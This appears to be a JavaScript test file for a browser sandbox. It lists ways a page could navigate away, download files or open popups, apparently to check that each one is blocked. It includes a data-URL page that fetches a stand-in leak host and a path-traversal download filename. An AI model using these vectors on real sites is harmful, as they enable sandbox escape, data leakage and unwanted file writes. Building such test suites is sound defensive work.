// Everything by which a page goes elsewhere, opens something else, or makes a file.
"use strict";
const anchor = (attributes) => {
  const made = document.createElement("a");
  for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
  document.body.append(made);
  made.click();
  return "clicked";
};
const submit = (url, attributes) => {
  const made = document.createElement("form");
  for (const [key, value] of Object.entries({ action: url, ...attributes })) made.setAttribute(key, value);
  made.innerHTML = `<input name=a value=hostile-payload><input type=submit formaction="${url}">`;
  document.body.append(made);
  made.requestSubmit(made.lastElementChild);
  return "submitted";
};
const payload = "data:application/octet-stream,hostile-payload";
const payloadUrl = () => URL.createObjectURL(new Blob(["hostile-payload"], { type: "application/octet-stream" }));
const opened = (made) => (made === null ? "no window" : "a window");

attacks.leaps = {
  "location-href": (url) => void (location.href = url),
  "location-assign": (url) => location.assign(url),
  "location-replace": (url) => location.replace(url),
  "location-host": (url) => void (location.host = new URL(url).host),
  "location-protocol": () => void (location.protocol = "https:"),
  "document-location": (url) => void (document.location = url),
  "parent-location": (url) => void (parent.location = url),
  "top-location": (url) => void (top.location.href = url),
  "navigation-api": (url) => navigation.navigate(url).committed,
  "open-self": (url) => opened(open(url, "_self")),
  "open-top": (url) => opened(open(url, "_top")),
  anchor: (url) => anchor({ href: url }),
  "anchor-top": (url) => anchor({ href: url, target: "_top", rel: "noopener opener" }),
  "anchor-download": (url) => anchor({ href: url, download: "hostile.txt" }),
  "anchor-javascript": (url) => anchor({ href: `javascript:location.href='${url}'` }),
  "svg-anchor": (url) => {
    const made = markup(`<svg><a href="${url}"><text>x</text></a></svg>`).firstElementChild;
    made.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
    return "clicked";
  },
  area: (url) => (markup(`<map name=m><area href="${url}" shape=default></map>`).firstElementChild.click(), "clicked"),
  "form-get-top": (url) => submit(url, { method: "get" }),
  "form-post-top": (url) => submit(url, { method: "post" }),
  "form-multipart-top": (url) => submit(url, { method: "post", enctype: "multipart/form-data" }),
  "meta-refresh": (url) => (element("meta", { "http-equiv": "refresh", content: `0; url=${url}` }, document.head), settled()),
  "history-state": (url) => history.pushState(null, "", url),
  "history-traversal": (url) => (history.pushState(null, "", "/elsewhere"), history.replaceState(null, "", "/"), history.back(), url && "went"),
};

attacks.files = {
  "data-url": () => void (location.href = payload),
  "data-page": () => void (location.href = "data:text/html,<script>fetch('https://data-page.named.leak.example')</script>"),
  "blob-url": () => void (location.href = payloadUrl()),
  "anchor-data": () => anchor({ href: payload }),
  "anchor-blob": () => anchor({ href: payloadUrl() }),
  "download-data": () => anchor({ href: payload, download: "hostile-data.txt" }),
  "download-blob": () => anchor({ href: payloadUrl(), download: "hostile-blob.txt" }),
  "download-own": () => anchor({ href: "/plain.txt", download: "hostile-own.txt" }),
  "download-traversal": () => anchor({ href: payloadUrl(), download: "../../hostile-up.txt" }),
  "download-frame": () => element("iframe", { src: payload }),
  "download-type": () => void (location.href = "/archive.bin"),
  "download-away": (url) => void (location.href = url),
  "open-data": () => opened(open(payload)),
  "open-blob": () => opened(open(payloadUrl())),
};

attacks.popups = {
  "open-window": (url) => opened(open(url)),
  "open-features": (url) => opened(open(url, "x", "popup,noopener,width=9,height=9")),
  "open-blank": (url) => {
    const made = open("");
    if (made) made.location = url;
    return opened(made);
  },
  "anchor-blank": (url) => anchor({ href: url, target: "_blank" }),
  "anchor-ping": (url) => anchor({ href: "#ping", ping: url }),
  "form-blank": (url) => submit(url, { method: "post", target: "_blank" }),
  "form-named": (url) => submit(url, { target: "another" }),
};
